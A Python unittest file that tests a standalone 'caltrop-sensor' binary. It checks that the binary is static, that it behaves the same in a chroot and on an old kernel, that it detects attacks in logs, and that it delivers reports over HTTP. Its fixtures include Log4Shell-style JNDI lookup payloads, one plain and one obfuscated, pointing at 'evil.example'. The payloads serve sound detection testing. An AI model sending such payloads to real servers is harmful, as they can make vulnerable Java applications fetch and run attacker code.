"""caltrop-sensor as a host meets it that has nothing else: test_sensor.py SENSOR CALTROP OLD_KERNEL"""
import gzip
import http.server
import io
import json
import os
import pathlib
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import unittest
import zipfile

SENSOR, CALTROP, OLD_KERNEL = (os.path.abspath(p) for p in sys.argv[1:4])
del sys.argv[1:]
ATTACK = '192.0.2.1 - - [10/Dec/2021:14:02:07 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://evil.example/a}"\n'
ROOT = os.geteuid() == 0


def in_chroot(folder, *command):
    """Into an empty root: as root at once, else in a user namespace of one's own."""
    return ([] if ROOT else ["unshare", "-r"]) + ["chroot", str(folder), *command]


class Sensor(unittest.TestCase):
    def setUp(self):
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-sensor-"))
        self.root = self.dir / "root"
        self.root.mkdir()
        self.sensor = self.root / "caltrop-sensor"
        subprocess.run(["strip", "-o", str(self.sensor), SENSOR], check=True)
        with open(self.root / "access.log", "w") as f:
            f.write(ATTACK)
        with gzip.open(self.root / "access.log.1.gz", "wt") as f:
            f.write(ATTACK.replace("/a}", "/b}"))
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("META-INF/maven/org.example/thing/pom.properties", "groupId=org.example\nartifactId=thing\nversion=1.2\n")
        with zipfile.ZipFile(self.root / "app.war", "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("WEB-INF/lib/thing.jar", inner.getvalue())

    def tearDown(self):
        shutil.rmtree(self.dir)

    def run_it(self, command, status, **options):
        done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, timeout=120, check=False,
                              env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"}, **options)
        self.assertIn(done.returncode, (0, 1, 3) if status is None else (status,), (command, done.stdout[-1500:], done.stderr[-1500:]))
        return done.stdout

    def test_one_small_file_that_needs_nothing(self):
        data = self.sensor.read_bytes()
        self.assertLess(len(data), 8 * 1000 * 1000)
        offset, = struct.unpack_from("<Q", data, 32)
        size, count = struct.unpack_from("<HH", data, 54)
        kinds = [struct.unpack_from("<I", data, offset + i * size)[0] for i in range(count)]
        self.assertNotIn(3, kinds, "asks for a program interpreter")
        dynamic = subprocess.run(["readelf", "-d", str(self.sensor)], stdout=subprocess.PIPE, check=True).stdout
        self.assertNotIn(b"NEEDED", dynamic)

    def test_a_part_of_the_commands(self):
        help_text = self.run_it([self.sensor, "--help"], 0).decode()
        self.assertIn("usage: caltrop-sensor COMMAND", help_text)
        commands = [line.split()[0] for line in help_text.splitlines() if line.startswith("  ")]
        self.assertEqual(commands, ["detect", "decoy", "scan", "explain", "version"])
        # What it has is what caltrop has: the same options with the same words, some left out (it changes nothing on a host).
        for command in commands:
            ours, theirs = (re.findall(r"^  (?:-\w, )?(--[\w-]+.*)$", self.run_it([p, command, "--help"], 0).decode(), re.M) for p in (self.sensor, CALTROP))
            self.assertEqual(ours, [line for line in theirs if line in ours])
            self.assertGreater(len(ours), 0)
        self.run_it([self.sensor, "up"], 2)

    def answers(self, wrap, prefix=""):
        """What it says of the prepared tree, without what differs between two runs."""
        sensor, where = prefix + "/caltrop-sensor", prefix or "/"
        logs = self.run_it(wrap(sensor, "detect", "-q", "--json", prefix + "/access.log", prefix + "/access.log.1.gz"), 1)
        attempts = [json.loads(line) for line in logs.splitlines()]
        explained = self.run_it(wrap(sensor, "explain", "${${lower:j}ndi:ldap://evil.example/a}"), 1)
        found = self.run_it(wrap(sensor, "scan", "-q", "--json", "--suspect", "pkg:maven/org.example/thing@[1.0,2.0)", where), 1)
        events = [json.loads(line) for line in found.splitlines()]
        findings = [e for e in events if "vulnerability" in e]
        self.assertEqual(len(attempts), 2)
        self.assertEqual(len(findings), 1, events)
        host = events[-1]
        self.assertTrue(host["caltrop"]["complete"], host)
        purls = sorted(e["caltrop"]["purl"] if "purl" in e["caltrop"] else json.dumps(e["package"]) for e in events[:-1])
        return [a["caltrop"] for a in attempts], explained, purls, host["caltrop"]["counts"]["entries"]

    def test_in_an_empty_root(self):
        probe = subprocess.run(in_chroot(self.root, "/caltrop-sensor", "version"), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False)
        if probe.returncode != 0 and not ROOT:
            self.skipTest("no root directory of one's own without root here: " + probe.stderr.decode()[-200:])
        inside = self.answers(lambda *c: in_chroot(self.root, *c))
        outside = self.answers(lambda program, *c: [CALTROP, *c], str(self.root))
        self.assertEqual([a["grade"] for a in inside[0]], [a["grade"] for a in outside[0]])
        self.assertEqual(inside[1], outside[1])
        self.assertEqual(inside[3], outside[3])

    def test_on_linux_3_10(self):
        probe = subprocess.run([OLD_KERNEL, "/bin/true"], stdout=subprocess.PIPE, check=False)
        if probe.returncode == 77:
            self.skipTest(probe.stdout.decode())
        old = self.answers(lambda *c: [OLD_KERNEL, *c], str(self.root))
        new = self.answers(lambda *c: list(c), str(self.root))
        self.assertEqual(old, new)
        # With processes, and threads. What this machine runs is not ours: nothing or something may be found.
        found = self.run_it([OLD_KERNEL, self.sensor, "scan", "-q", "--json", "-j", "4", "--processes", self.root], None)
        self.assertGreater(json.loads(found.splitlines()[-1])["caltrop"]["counts"]["processes"], 2)

    def test_delivers_where_nothing_can_be_resolved(self):
        got = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                got.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            (self.root / "data").mkdir()
            url = "http://%s:%d/" % ("localhost" if ROOT else "127.0.0.1", server.server_port)
            command = ("/caltrop-sensor", "detect", "-q", "--data-dir", "/data", "--to", url, "/access.log")
            if not ROOT:
                command = (str(self.sensor), *command[1:3], "--data-dir", str(self.root / "data"), *command[5:7], str(self.root / "access.log"))
            self.run_it(in_chroot(self.root, *command) if ROOT else list(command), 1)
        finally:
            server.shutdown()
            thread.join()
            server.server_close()
        self.assertTrue(any(b"evil.example" in body or b"evil" in gunzip(body) for body in got), got)


def gunzip(body):
    try:
        return gzip.decompress(body)
    except OSError:
        return b""


unittest.main(verbosity=2)
